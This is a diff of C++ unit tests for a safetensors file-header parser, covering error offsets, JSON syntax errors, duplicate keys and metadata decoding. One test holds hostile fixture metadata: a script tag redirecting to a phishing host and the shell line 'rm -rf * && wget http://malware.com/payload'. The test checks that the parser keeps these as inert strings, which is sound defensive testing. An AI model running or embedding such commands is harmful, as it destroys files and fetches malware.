@@ -50,6 +50,20 @@ std::uint64_t data_start(std::string_view header) { return 8 + header.size(); }
 
 Result<TensorTable> parse(const std::vector<std::byte>& bytes) { return parse_safetensors(bytes); }
 
+// A "__metadata__" value as a string ("" when absent or not a string).
+std::string metadata_string(const MetadataValue& metadata, std::string_view key) {
+  const MetadataValue* value = metadata.find(key);
+  return value != nullptr && value->is_string() ? *value->if_string() : std::string();
+}
+
+// Absolute offset of the header entry whose key is spelled `quoted_key` (quotes and escapes as in
+// `header`): its opening quote, 8 bytes (the length field) into the file. The first match.
+std::uint64_t entry_at(std::string_view header, std::string_view quoted_key) {
+  const std::size_t at = header.find(std::string(quoted_key) + ":");
+  EXPECT_NE(at, std::string_view::npos) << quoted_key << " in " << header;
+  return 8 + at;
+}
+
 const TensorInfo* find_tensor(const TensorTable& table, std::string_view name) {
   for (const auto& t : table.tensors) {
     if (t.name == name) return &t;
@@ -263,7 +277,7 @@ TEST(SafetensorsFixtureContent, HadamardsAreSquareOrthogonalPlusMinusOneMatrices
   const TensorInfo& last = table->tensors.back();
   EXPECT_EQ(last.offset + last.size, 1'436'901U);
   EXPECT_EQ(bytes.size(), 1'436'901U);
-  EXPECT_EQ(table->metadata.value("256", std::string()), "had.256.syl");
+  EXPECT_EQ(metadata_string(table->metadata, "256"), "had.256.syl");
 
   std::uint64_t total_elements = 0;
   for (const auto& t : table->tensors) {
@@ -335,18 +349,16 @@ TEST(SafetensorsFixtureContent, HostileMetadataStaysOpaqueStrings) {
   RINGLOAD_FIXTURE_OR_SKIP(patterns, "malformed/modelaudit-multiple_patterns.safetensors");
   auto table = parse(read_all(patterns));
   ASSERT_TRUE(table) << table.error().to_string();
-  EXPECT_EQ(table->metadata.value("cleanup_script", std::string()),
+  EXPECT_EQ(metadata_string(table->metadata, "cleanup_script"),
             "<script>document.location='http://phishing.com'</script>");
-  EXPECT_EQ(table->metadata.value("shell_hook", std::string()),
-            "rm -rf * && wget http://malware.com/payload");
+  EXPECT_EQ(metadata_string(table->metadata, "shell_hook"), "rm -rf * && wget http://malware.com/payload");
 
   RINGLOAD_FIXTURE_OR_SKIP(obfuscated, "malformed/modelaudit-obfuscated_metadata.safetensors");
   auto table2 = parse(read_all(obfuscated));
   ASSERT_TRUE(table2) << table2.error().to_string();
   // JSON "\\x48" decodes to the four characters \x48, never to 'H'.
-  EXPECT_EQ(table2->metadata.value("hex_data", std::string()),
-            R"(\x48\x65\x6c\x6c\x6f\x20\x57\x6f\x72\x6c\x64)");
-  for (const auto& [key, value] : table2->metadata.items()) EXPECT_TRUE(value.is_string()) << key;
+  EXPECT_EQ(metadata_string(table2->metadata, "hex_data"), R"(\x48\x65\x6c\x6c\x6f\x20\x57\x6f\x72\x6c\x64)");
+  for (const auto& [key, value] : *table2->metadata.if_object()) EXPECT_TRUE(value.is_string()) << key;
 }
 
 TEST(SafetensorsFixtureContent, ModelLoadsFixtureThroughDetection) {
@@ -384,7 +396,7 @@ TEST(SafetensorsParse, FillsTableWithAbsoluteOffsetsSortedByOffset) {
   EXPECT_EQ(table->tensors[1].shape, (std::vector<std::uint64_t>{2}));
   EXPECT_EQ(table->tensors[1].offset, data_start(header) + 2);
   EXPECT_EQ(table->tensors[1].size, 8U);
-  EXPECT_EQ(dump_json(table->metadata), R"({"format":"pt","z":"1"})");
+  EXPECT_EQ(table->metadata, MetadataValue(MetadataValue::Object{{"format", "pt"}, {"z", "1"}}));
 }
 
 TEST(SafetensorsParse, AcceptsLeadingAndTrailingJsonWhitespace) {
@@ -547,7 +559,7 @@ TEST(SafetensorsParse, AcceptsEscapedNulInsideAString) {
   const std::string header = R"({"__metadata__":{"k":"a\u0000b"}})";
   auto table = parse(safetensors_image(header, 0));
   ASSERT_TRUE(table) << table.error().to_string();
-  EXPECT_EQ(table->metadata.value("k", std::string()), std::string("a\0b", 3));
+  EXPECT_EQ(metadata_string(table->metadata, "k"), std::string("a\0b", 3));
 }
 
 TEST(SafetensorsParse, RejectsHeaderThatIsNotAnObject) {
@@ -555,17 +567,39 @@ TEST(SafetensorsParse, RejectsHeaderThatIsNotAnObject) {
   expect_error(parse(safetensors_image(R"("text")", 0)), ErrorKind::malformed_header, 8);
 }
 
+// Entry errors point at the entry's key: byte 8 + 1 when "w" is the first key.
 TEST(SafetensorsParse, RejectsEntryThatIsNotAnObject) {
-  expect_error(parse(safetensors_image(R"({"w":[0,4]})", 4)), ErrorKind::malformed_header, 8, "w");
+  expect_error(parse(safetensors_image(R"({"w":[0,4]})", 4)), ErrorKind::malformed_header, 9, "w");
 }
 
 TEST(SafetensorsParse, RejectsEntryWithMissingField) {
   expect_error(parse(safetensors_image(R"({"w":{"shape":[1],"data_offsets":[0,4]}})", 4)),
-               ErrorKind::malformed_header, 8, "w");
+               ErrorKind::malformed_header, 9, "w");
   expect_error(parse(safetensors_image(R"({"w":{"dtype":"F32","data_offsets":[0,4]}})", 4)),
-               ErrorKind::malformed_header, 8, "w");
+               ErrorKind::malformed_header, 9, "w");
   expect_error(parse(safetensors_image(R"({"w":{"dtype":"F32","shape":[1]}})", 4)),
-               ErrorKind::malformed_header, 8, "w");
+               ErrorKind::malformed_header, 9, "w");
+}
+
+TEST(SafetensorsParse, ReportsAnEntryErrorAtThatEntrysKey) {
+  // The faulty entry is the third, after whitespace, a BOM and escapes that the offset counts.
+  const std::string header =
+      "\xEF\xBB\xBF {\"a\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[0,1]},\n"
+      "  \"b\\u0022\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[1,2]},\n"
+      "  \"c\":{\"shape\":[1],\"data_offsets\":[2,3]}}";
+  const std::uint64_t c_at = 8 + header.find("\"c\":");
+  expect_error(parse(safetensors_image(header, 3)), ErrorKind::malformed_header, c_at, "c");
+  // The same among 3,000 entries.
+  std::string many = "{";
+  for (int i = 0; i < 3000; ++i) {
+    many += fmt::format(R"("t{}":{{"dtype":"U8","shape":[1],"data_offsets":[{},{}]}},)", i, i, i + 1);
+  }
+  many += R"("bad":{"dtype":"U8","shape":[1],"data_offsets":[3000,3001],"dtype":"U8"}})";
+  expect_error(parse(safetensors_image(many, 3001)), ErrorKind::duplicate_name, 8 + many.rfind(R"("dtype")"));
+  many.replace(many.rfind(R"(,"dtype":"U8")"), 13, "");
+  many.replace(many.find(R"("t1234":{"dtype":"U8")"), 21, R"("t1234":{"dtype":"X8")");
+  expect_error(parse(safetensors_image(many, 3001)), ErrorKind::unknown_dtype, entry_at(many, R"("t1234")"),
+               "t1234");
 }
 
 TEST(SafetensorsParse, RejectsEntryWithWronglyTypedField) {
@@ -585,7 +619,7 @@ TEST(SafetensorsParse, RejectsEntryWithWronglyTypedField) {
   };
   for (const auto& header : headers) {
     SCOPED_TRACE(header);
-    expect_error(parse(safetensors_image(header, 4)), ErrorKind::malformed_header, 8, "w");
+    expect_error(parse(safetensors_image(header, 4)), ErrorKind::malformed_header, 9, "w");
   }
 }
 
@@ -595,56 +629,58 @@ TEST(SafetensorsParse, RejectsUnknownDtypeName) {
     SCOPED_TRACE(dtype);
     const std::string header = R"({"a":{"dtype":"I8","shape":[4],"data_offsets":[0,4]},"w":{"dtype":")" +
                                std::string(dtype) + R"(","shape":[1],"data_offsets":[4,8]}})";
-    expect_error(parse(safetensors_image(header, 8)), ErrorKind::unknown_dtype, data_start(header) + 4, "w");
+    expect_error(parse(safetensors_image(header, 8)), ErrorKind::unknown_dtype, entry_at(header, R"("w")"),
+                 "w");
   }
 }
 
 TEST(SafetensorsParse, RejectsShapeWhoseElementCountOverflows) {
   const std::string header = R"({"w":{"dtype":"U8","shape":[4294967296,4294967296],"data_offsets":[0,4]}})";
-  expect_error(parse(safetensors_image(header, 4)), ErrorKind::invalid_shape, data_start(header), "w");
+  expect_error(parse(safetensors_image(header, 4)), ErrorKind::invalid_shape, 9, "w");
 }
 
 TEST(SafetensorsParse, RejectsShapeWhoseBitCountOverflows) {
   // 2^62 elements fit u64, 2^62 x 32 bits do not.
   const std::string header = R"({"w":{"dtype":"F32","shape":[4611686018427387904],"data_offsets":[0,4]}})";
-  expect_error(parse(safetensors_image(header, 4)), ErrorKind::invalid_shape, data_start(header), "w");
+  expect_error(parse(safetensors_image(header, 4)), ErrorKind::invalid_shape, 9, "w");
 }
 
 TEST(SafetensorsParse, RejectsF4WithOddElementCount) {
   const std::string header =
       R"({"a":{"dtype":"U8","shape":[2],"data_offsets":[0,2]},"w":{"dtype":"F4","shape":[3],"data_offsets":[2,4]}})";
-  expect_error(parse(safetensors_image(header, 4)), ErrorKind::invalid_shape, data_start(header) + 2, "w");
+  expect_error(parse(safetensors_image(header, 4)), ErrorKind::invalid_shape, entry_at(header, R"("w")"),
+               "w");
 }
 
 TEST(SafetensorsParse, RejectsF6WithPartialByte) {
   // 2 x 6 bits = 12 bits.
   const std::string header = R"({"w":{"dtype":"F6_E3M2","shape":[2],"data_offsets":[0,2]}})";
-  expect_error(parse(safetensors_image(header, 2)), ErrorKind::invalid_shape, data_start(header), "w");
+  expect_error(parse(safetensors_image(header, 2)), ErrorKind::invalid_shape, 9, "w");
 }
 
 TEST(SafetensorsParse, RejectsByteRangeThatDiffersFromDtypeTimesShape) {
   const std::string header =
       R"({"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"w":{"dtype":"F32","shape":[2,2],"data_offsets":[8,20]}})";
   auto r = parse(safetensors_image(header, 20));
-  expect_error(r, ErrorKind::size_mismatch, data_start(header) + 8, "w");
+  expect_error(r, ErrorKind::size_mismatch, entry_at(header, R"("w")"), "w");
   EXPECT_NE(r.error().message.find("16"), std::string::npos) << r.error().message;
 }
 
 TEST(SafetensorsParse, RejectsEndBeforeBegin) {
   const std::string header = R"({"w":{"dtype":"F32","shape":[0],"data_offsets":[8,4]}})";
-  expect_error(parse(safetensors_image(header, 8)), ErrorKind::malformed_header, data_start(header) + 8, "w");
+  expect_error(parse(safetensors_image(header, 8)), ErrorKind::malformed_header, 9, "w");
 }
 
 TEST(SafetensorsParse, RejectsBeginThatOverflowsWithTheDataStart) {
   // begin = end = 2^64 - 4: an empty range, but 8 + N + begin wraps.
   const std::string header =
       R"({"w":{"dtype":"F32","shape":[0],"data_offsets":[18446744073709551612,18446744073709551612]}})";
-  expect_error(parse(safetensors_image(header, 0)), ErrorKind::overflow, 8, "w");
+  expect_error(parse(safetensors_image(header, 0)), ErrorKind::overflow, 9, "w");
 }
 
 TEST(SafetensorsParse, RejectsEndThatOverflowsWithTheDataStart) {
   const std::string header = R"({"w":{"dtype":"U8","shape":[1],"data_offsets":[0,18446744073709551615]}})";
-  expect_error(parse(safetensors_image(header, 1)), ErrorKind::overflow, 8, "w");
+  expect_error(parse(safetensors_image(header, 1)), ErrorKind::overflow, 9, "w");
 }
 
 TEST(SafetensorsParse, RejectsOverlappingRanges) {
@@ -691,23 +727,22 @@ TEST(SafetensorsParse, RejectsTensorDataPastEndOfFile) {
 TEST(SafetensorsParse, RejectsDuplicateTensorName) {
   const std::string header =
       R"({"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"a":{"dtype":"U8","shape":[1],"data_offsets":[1,2]}})";
-  auto r = parse(safetensors_image(header, 2));
-  ASSERT_FALSE(r);
-  EXPECT_EQ(r.error().kind, ErrorKind::duplicate_name);
-  EXPECT_EQ(r.error().offset, 8U);
+  // At the second "a", the repeated key.
+  expect_error(parse(safetensors_image(header, 2)), ErrorKind::duplicate_name, 8 + header.rfind(R"("a")"));
 }
 
 TEST(SafetensorsParse, RejectsNonStringMetadataValue) {
   const std::string header =
       R"({"__metadata__":{"format":"pt","epochs":3},"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}})";
-  expect_error(parse(safetensors_image(header, 1)), ErrorKind::malformed_header, 8);
+  expect_error(parse(safetensors_image(header, 1)), ErrorKind::malformed_header,
+               entry_at(header, R"("epochs")"));
 }
 
 TEST(SafetensorsParse, RejectsMetadataThatIsNotAnObject) {
   for (const char* metadata : {R"(["pt"])", R"("pt")", "3"}) {
     SCOPED_TRACE(metadata);
     const std::string header = std::string(R"({"__metadata__":)") + metadata + "}";
-    expect_error(parse(safetensors_image(header, 0)), ErrorKind::malformed_header, 8);
+    expect_error(parse(safetensors_image(header, 0)), ErrorKind::malformed_header, 9);  // its key
   }
 }
 
@@ -720,7 +755,7 @@ TEST(SafetensorsParse, AcceptsNullMetadataAsNoMetadata) {
 }
 
 // ---------------------------------------------------------------------------------------------
-// The header scanner: full JSON, with errors where nlohmann's DOM parser reported them.
+// The header's JSON: strict, with syntax errors at the first byte of the token at fault.
 
 // One U8 tensor of one byte named by the JSON string literal `quoted_name` (escapes and all).
 std::string one_byte_tensor(std::string_view quoted_name, std::string_view extra_fields = {}) {
@@ -752,7 +787,8 @@ TEST(SafetensorsScan, KeepsMetadataOrderAndDecodesItsStrings) {
   const std::string header = R"({"__metadata__":{"z":"1","a":"\u00e9\ud83d\ude00","m":""}})";
   auto table = parse(safetensors_image(header, 0));
   ASSERT_TRUE(table) << table.error().to_string();
-  EXPECT_EQ(table->metadata.dump(), "{\"z\":\"1\",\"a\":\"\xC3\xA9\xF0\x9F\x98\x80\",\"m\":\"\"}");
+  EXPECT_EQ(table->metadata,
+            MetadataValue(MetadataValue::Object{{"z", "1"}, {"a", "\xC3\xA9\xF0\x9F\x98\x80"}, {"m", ""}}));
 }
 
 TEST(SafetensorsScan, AcceptsWhitespaceAndAByteOrderMark) {
@@ -763,9 +799,9 @@ TEST(SafetensorsScan, AcceptsWhitespaceAndAByteOrderMark) {
   EXPECT_EQ(table->tensors.at(0).name, "w");
 }
 
-TEST(SafetensorsScan, RejectsPartialByteOrderMarkAtItsSecondByte) {
-  // EF BF BF is valid UTF-8 (U+FFFF) but not a BOM; nlohmann stops at the second byte.
-  expect_error(parse(safetensors_image("\xEF\xBF\xBF{}", 0)), ErrorKind::malformed_header, 8 + 1);
+TEST(SafetensorsScan, RejectsAnotherCharacterWhereTheValueShouldStart) {
+  // EF BF BF is valid UTF-8 (U+FFFF), but not a byte-order mark, and no JSON value starts so.
+  expect_error(parse(safetensors_image("\xEF\xBF\xBF{}", 0)), ErrorKind::malformed_header, 8);
 }
 
 TEST(SafetensorsScan, AcceptsAnyValueInUnknownFields) {
@@ -781,7 +817,7 @@ TEST(SafetensorsScan, RejectsNumbersThatAreNotU64InShape) {
     SCOPED_TRACE(dim);
     const std::string header =
         std::string(R"({"w":{"dtype":"U8","shape":[)") + dim + R"(],"data_offsets":[0,1]}})";
-    expect_error(parse(safetensors_image(header, 1)), ErrorKind::malformed_header, 8, "w");
+    expect_error(parse(safetensors_image(header, 1)), ErrorKind::malformed_header, 9, "w");
   }
 }
 
@@ -792,43 +828,46 @@ TEST(SafetensorsScan, AcceptsU64MaxInShape) {
   EXPECT_EQ(table->tensors.at(0).shape, (std::vector<std::uint64_t>{18446744073709551615ULL, 0}));
 }
 
-TEST(SafetensorsScan, RejectsLeadingZeroAtTheSecondNumber) {
-  // "01" is the number 0 followed by the number 1: the 1 is the unexpected token.
+TEST(SafetensorsScan, RejectsLeadingZeroAtTheNumber) {
   const std::string header = R"({"w":{"dtype":"U8","shape":[01],"data_offsets":[0,1]}})";
-  expect_error(parse(safetensors_image(header, 1)), ErrorKind::malformed_header, 8 + header.find("1]"));
+  expect_error(parse(safetensors_image(header, 1)), ErrorKind::malformed_header, 8 + header.find("01]"));
 }
 
-TEST(SafetensorsScan, RejectsNumbersThatOverflowADoubleAtTheirLastDigit) {
+TEST(SafetensorsScan, RejectsNumbersThatOverflowADoubleAtTheirFirstByte) {
   for (const std::string& number : {std::string("1e999"), std::string("-1.5E+400"), std::string(400, '9')}) {
     SCOPED_TRACE(number);
     const std::string header = one_byte_tensor(R"("w")", ",\"x\":" + number);
+    expect_error(parse(safetensors_image(header, 1)), ErrorKind::malformed_header, 8 + header.find(number));
+  }
+}
+
+TEST(SafetensorsScan, RejectsMalformedNumbersAtTheirFirstByte) {
+  for (const char* number : {"-x", "1.x", "1ex", "1e+x", "-", "+1", ".5", "1.", "0x10", "Infinity", "NaN"}) {
+    SCOPED_TRACE(number);
+    const std::string header = std::string(R"({"x":)") + number + "}";
+    expect_error(parse(safetensors_image(header, 0)), ErrorKind::malformed_header, 8 + 5);
+  }
+}
+
+TEST(SafetensorsScan, RejectsMisspelledLiteralsAtTheirFirstByte) {
+  for (const char* literal : {"tru", "truex", "nul", "nulll", "fals", "True", "NULL"}) {
+    SCOPED_TRACE(literal);
+    const std::string header = one_byte_tensor(R"("w")", std::string(R"(,"x":[1,)") + literal + "]");
     expect_error(parse(safetensors_image(header, 1)), ErrorKind::malformed_header,
-                 8 + header.find(number) + number.size() - 1);
+                 8 + header.find(literal, header.find("[1,")));
   }
 }
 
-TEST(SafetensorsScan, RejectsMalformedNumbersAtTheByteThatBreaksThem) {
-  struct Case {
-    const char* number;
-    std::size_t at;  // offset of the offending byte in the header {"x":<number>}
-  };
-  for (const Case& c : {Case{"-x", 6}, Case{"1.x", 7}, Case{"1ex", 7}, Case{"1e+x", 8}, Case{"-", 6},
-                        Case{"+1", 5}, Case{".5", 5}}) {
-    SCOPED_TRACE(c.number);
-    const std::string header = std::string(R"({"x":)") + c.number + "}";
-    expect_error(parse(safetensors_image(header, 0)), ErrorKind::malformed_header, 8 + c.at);
-  }
-}
-
-TEST(SafetensorsScan, RejectsBadEscapesAtTheOffendingByte) {
-  struct Case {
-    const char* name;  // a JSON string literal
-    std::size_t at;    // offset of the offending byte inside it
-  };
-  for (const Case& c : {Case{R"("a\x")", 3}, Case{R"("\u12G4")", 5}, Case{R"("\ud800")", 7},
-                        Case{R"("\ud800\n")", 8}, Case{R"("\ud800\u0041")", 12}, Case{R"("\udc00")", 6}}) {
-    SCOPED_TRACE(c.name);
-    expect_error(parse(safetensors_image(one_byte_tensor(c.name), 1)), ErrorKind::malformed_header, 9 + c.at);
+TEST(SafetensorsScan, RejectsBadEscapesAtTheirStringsQuote) {
+  for (const char* name : {R"("a\x")", R"("\u12G4")", R"("\ud800")", R"("\ud800\n")", R"("\ud800\u0041")",
+                           R"("\udc00")", R"("\u12")"}) {
+    SCOPED_TRACE(name);
+    // The tensor name is the first key: its quote is byte 1 of the header.
+    expect_error(parse(safetensors_image(one_byte_tensor(name), 1)), ErrorKind::malformed_header, 8 + 1);
+    // As a value in an unknown field, at the value's quote.
+    const std::string header = one_byte_tensor(R"("w")", std::string(R"(,"x":)") + name);
+    expect_error(parse(safetensors_image(header, 1)), ErrorKind::malformed_header,
+                 8 + header.find(name, header.find(R"("x")")));
   }
 }
 
@@ -837,18 +876,30 @@ TEST(SafetensorsScan, RejectsRawControlCharacterInAString) {
   expect_error(parse(safetensors_image(header, 0)), ErrorKind::malformed_header, 8 + 3);
 }
 
-TEST(SafetensorsScan, RejectsUnterminatedStringAtTheHeaderEnd) {
+TEST(SafetensorsScan, RejectsUnterminatedStringAtItsOpeningQuote) {
   const std::string header = R"({"a":"bc)";
-  expect_error(parse(safetensors_image(header, 0)), ErrorKind::malformed_header, data_start(header));
+  expect_error(parse(safetensors_image(header, 0)), ErrorKind::malformed_header, 8 + header.find(R"("bc)"));
+  // A quote escaped inside it does not close it.
+  const std::string escaped = R"({"a":"b\"})";
+  expect_error(parse(safetensors_image(escaped, 0)), ErrorKind::malformed_header, 8 + escaped.find(R"("b)"));
 }
 
-TEST(SafetensorsScan, RejectsTrailingTokensAtTheirLastByte) {
+TEST(SafetensorsScan, RejectsTrailingTokensAtTheirFirstByte) {
+  for (const char* header :
+       {"{} x", "{} {}", "{} 12", R"({} "ab")", "{} true", "{} tru", "{}]", "{}}", "{},"}) {
+    SCOPED_TRACE(header);
+    const std::size_t at = std::string_view(header).find_first_not_of(' ', 2);
+    expect_error(parse(safetensors_image(header, 0)), ErrorKind::malformed_header, 8 + at);
+  }
+}
+
+TEST(SafetensorsScan, RejectsUnbalancedBrackets) {
   struct Case {
     const char* header;
-    std::size_t at;
+    std::size_t at;  // where a value or separator was expected
   };
-  for (const Case& c : {Case{"{} x", 3}, Case{"{} {}", 3}, Case{"{} 12", 4}, Case{R"({} "ab")", 6},
-                        Case{"{} true", 6}, Case{"{} tru", 6}}) {
+  for (const Case& c : {Case{R"({"a":[1})", 7}, Case{R"({"a":{"b":1])", 11}, Case{R"(]{})", 0}, Case{"{", 1},
+                        Case{R"({"a":[)", 6}, Case{R"({"a":[[1]})", 9}}) {
     SCOPED_TRACE(c.header);
     expect_error(parse(safetensors_image(c.header, 0)), ErrorKind::malformed_header, 8 + c.at);
   }
@@ -870,7 +921,7 @@ TEST(SafetensorsScan, RejectsTrailingCommasAndMissingSeparators) {
 TEST(SafetensorsScan, ReportsALaterSyntaxErrorBeforeAnEarlierBadEntry) {
   // The DOM was parsed whole before any entry was checked, so the syntax error wins.
   const std::string header = R"({"w":[0,4],"x":tru})";
-  expect_error(parse(safetensors_image(header, 0)), ErrorKind::malformed_header, 8 + header.find('}'));
+  expect_error(parse(safetensors_image(header, 0)), ErrorKind::malformed_header, 8 + header.find("tru"));
 }
 
 TEST(SafetensorsScan, ReportsALaterBadUtf8ByteBeforeAnEarlierSyntaxError) {
@@ -878,19 +929,27 @@ TEST(SafetensorsScan, ReportsALaterBadUtf8ByteBeforeAnEarlierSyntaxError) {
   expect_error(parse(safetensors_image(header, 0)), ErrorKind::malformed_header, 8 + 4);
 }
 
-TEST(SafetensorsScan, RejectsDuplicateKeysAtAnyDepth) {
-  const std::vector<std::string> headers = {
-      R"({"w":{"dtype":"U8","dtype":"U8","shape":[1],"data_offsets":[0,1]}})",
-      one_byte_tensor(R"("w")", R"(,"x":[{"k":1,"k":2}])"),
-      R"({"__metadata__":{"k":"1","k":"2"}})",
-      // Keys compare decoded: "\u0061" is "a".
-      R"({"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"\u0061":{"dtype":"U8","shape":[1],"data_offsets":[1,2]}})",
-      // Not in the old reader's parity: a repeated "" came out as malformed_header.
-      R"({"":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"":{"dtype":"U8","shape":[1],"data_offsets":[1,2]}})",
+TEST(SafetensorsScan, RejectsDuplicateKeysAtAnyDepthAtTheRepeatedKey) {
+  struct Case {
+    std::string header;
+    std::string repeated;  // the second spelling of the key, quoted: the error is at its last match
   };
-  for (const auto& header : headers) {
-    SCOPED_TRACE(header);
-    expect_error(parse(safetensors_image(header, 2)), ErrorKind::duplicate_name, 8);
+  const std::vector<Case> cases = {
+      {R"({"w":{"dtype":"U8","dtype":"U8","shape":[1],"data_offsets":[0,1]}})", R"("dtype")"},
+      {R"({"w":{"x":1,"dtype":"U8","shape":[1],"x":2,"data_offsets":[0,1]}})", R"("x")"},
+      {one_byte_tensor(R"("w")", R"(,"x":[{"k":1,"k":2}])"), R"("k")"},
+      {R"({"__metadata__":{"k":"1","k":"2"}})", R"("k")"},
+      {R"({"__metadata__":{},"__metadata__":{}})", R"("__metadata__")"},
+      // Keys compare decoded: "\u0061" is "a".
+      {R"({"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"\u0061":{"dtype":"U8","shape":[1],"data_offsets":[1,2]}})",
+       R"("\u0061")"},
+      {R"({"":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"":{"dtype":"U8","shape":[1],"data_offsets":[1,2]}})",
+       R"("":)"},
+  };
+  for (const auto& c : cases) {
+    SCOPED_TRACE(c.header);
+    expect_error(parse(safetensors_image(c.header, 2)), ErrorKind::duplicate_name,
+                 8 + c.header.rfind(c.repeated));
   }
 }
 
@@ -905,12 +964,14 @@ TEST(SafetensorsScan, FindsDuplicatesAmongManyTensorsAndManyObjectKeys) {
   ASSERT_TRUE(table) << table.error().to_string();
   EXPECT_EQ(table->tensors.size(), 3001U);
   // "t\u0031" decodes to "t1".
-  expect_error(parse(safetensors_image(tensors + R"("t\u0031":)" + last, 0)), ErrorKind::duplicate_name, 8);
+  const std::string repeated = tensors + R"("t\u0031":)" + last;
+  expect_error(parse(safetensors_image(repeated, 0)), ErrorKind::duplicate_name,
+               8 + repeated.find(R"("t\u0031")"));
 
   std::string object = "{";
   for (int i = 0; i < 100; ++i) object += fmt::format(R"("k{}":{},)", i, i);
-  expect_error(parse(safetensors_image(one_byte_tensor(R"("w")", ",\"x\":" + object + R"("k99":0})"), 1)),
-               ErrorKind::duplicate_name, 8);
+  const std::string header = one_byte_tensor(R"("w")", ",\"x\":" + object + R"("k99":0})");
+  expect_error(parse(safetensors_image(header, 1)), ErrorKind::duplicate_name, 8 + header.rfind(R"("k99")"));
 }
 
 TEST(SafetensorsScan, AcceptsNestingUpTo128AndRejectsDeeperAtTheBracket) {
